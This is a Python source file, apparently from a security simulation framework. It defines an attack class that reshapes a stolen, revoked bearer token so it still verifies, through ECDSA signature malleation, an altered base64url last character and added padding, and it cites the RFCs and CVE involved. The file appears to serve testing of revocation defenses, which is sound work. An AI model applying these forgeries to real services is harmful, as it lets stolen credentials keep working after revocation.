"""A revoked token is changed into another text that verifies like it."""

from typing import ClassVar

from simlib.attacks.base import OWNER, Candidate, Preparation, send
from simlib.attacks.stolen_token import StolenTokenAttack
from simlib.scenario.effects import Context, Flow
from simlib.scenario.messages import HttpRequest
from simlib.tokens import read_header
from simlib.tokens.forging import ORDERS, malleate_signature, vary_encoding


class AlteredRevokedCopy(StolenTokenAttack):
    """ECDSA has two signatures for every one, and base64url bits that nobody reads."""

    name: ClassVar[str] = "altered_revoked_copy"
    summary: ClassVar[str] = "a revoked token, spelt otherwise but still valid"
    source: ClassVar[str] = "RFC 4648 section 3.5, RFC 7009 section 3; CVE-2015-7546"

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Wait for the revocation, then spell the token otherwise."""
        yield from send(OWNER, HttpRequest())
        token = self.assets.stolen_token
        found = [("another last character", vary_encoding(token)), ("padded", token + "=")]
        if read_header(token).get("alg") in ORDERS and token.count(".") == 2:
            found.insert(0, ("the signature (r, n - s)", malleate_signature(token)))
        return tuple(Candidate(label, HttpRequest(f"Bearer {text}")) for label, text in found if text != token)
